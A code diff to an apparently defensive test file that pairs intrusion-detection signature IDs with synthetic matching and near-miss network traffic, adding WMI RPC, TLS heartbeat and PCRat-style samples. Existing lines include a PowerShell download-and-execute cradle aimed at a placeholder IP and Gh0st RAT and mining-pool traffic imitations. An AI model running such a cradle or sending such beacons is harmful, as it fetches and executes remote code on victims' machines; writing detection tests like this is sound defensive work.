@@ -161,6 +161,11 @@ SOAP = (
 )
 CRADLE = b"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/b')"
 GHOST = b"Gh0st" + struct.pack("<II", 60, 100) + zlib.compress(b"x" * 100)
+WMI_BIND = "f309be4f1d6bd111b2a400c04fb92d6b"
+MMC = bytes.fromhex("1a79b249aeb1904c9b8ee860ba07f889")
+SHELL = bytes.fromhex("7259a09ba8f6cf11a44200a0c90a8f39")
+BROWSER = bytes.fromhex("90fd8ac0a1f2d111845500a0c91f3880")
+PCRAT = b"ABCDE12345" + struct.pack(">I", 60) + struct.pack("<I", 100) + zlib.compress(b"x" * 100)
 BARE_HOST: dict[str, Any] = {"host": BARE}
 
 TABLE: dict[int, tuple[Callable[[Wire, float, str], object], Callable[[Wire, float, str], object]]] = {
@@ -238,6 +243,14 @@ TABLE: dict[int, tuple[Callable[[Wire, float, str], object], Callable[[Wire, flo
         http("/?q=x8", answer=b"\x3d\x7c" + bytes(200), kind="application/x-msdownload"),
         http("/w/a.psf", answer=b"\x3d\x7c" + bytes(200), kind="application/x-msdownload"),
     ),
+    9000270: (rpc(WMI_BIND, 3, bytes(80) + MMC), tcp(445, (">", b"\x00\x00\x05\x00" + bytes(80) + MMC))),
+    9000271: (rpc(WMI_BIND, 3, bytes(80) + SHELL), rpc(WMI_BIND, 3, bytes(80) + SHELL[::-1])),
+    9000272: (rpc(WMI_BIND, 3, bytes(80) + BROWSER), rpc(WMI_BIND, 3, bytes(80) + BROWSER[::-1])),
+    9000274: (
+        heart(noise(1)[:32], noise(2) * 16, sealed=True),
+        heart(noise(1)[:32], noise(2)[:48], sealed=True),
+    ),
+    9000275: (heart(b"\x01\x03\xfd" + bytes(1021), b""), heart(b"\x01\x03\xed" + bytes(1021), b"")),
     9000301: (http("/a.bin", answer=PE, kind="application/octet-stream", **BARE_HOST), http("/a.bin", answer=PE[2:], **BARE_HOST)),
     9000302: (http("/a.arm", answer=ELF, kind="application/octet-stream", **BARE_HOST), http("/a.arm", answer=ELF)),
     9000303: (http("/a.png", answer=PE, kind="image/png"), http("/a.exe", answer=PE, kind="application/octet-stream")),
@@ -286,6 +299,7 @@ TABLE: dict[int, tuple[Callable[[Wire, float, str], object], Callable[[Wire, flo
         http("/get.php?id=7", answer=PE, kind="application/octet-stream"),
         http("/get.php?id=7", answer=PE, kind="application/octet-stream", headers="Referer: http://www.site.example/\r\n"),
     ),
+    9000365: (tcp(900, (">", PCRAT)), tcp(900, (">", b"ABCDE12345" + noise(6)[:8] + zlib.compress(b"x" * 100)))),
     9000401: (tcp(3333, (">", STRATUM)), tcp(3333, (">", b'{"id":1,"method":"mining_news.list"}\n'))),
     9000402: (
         tcp(3333, (">", b"{}\n"), ("<", b'{"id":null,"method":"mining.notify","params":[]}\n')),
@@ -327,7 +341,7 @@ TABLE: dict[int, tuple[Callable[[Wire, float, str], object], Callable[[Wire, flo
 """Signature, its hit and its near miss."""
 
 SILENT = frozenset(
-    {9000257, 9000259, 9000300, 9000307, 9000362, 9000363} | set(range(9000261, 9000270))
+    {9000257, 9000259, 9000300, 9000307, 9000273, 9000362, 9000363} | set(range(9000261, 9000270))
 )
 """They only set a flow bit that others ask for, whose hits and near misses are theirs too."""
 
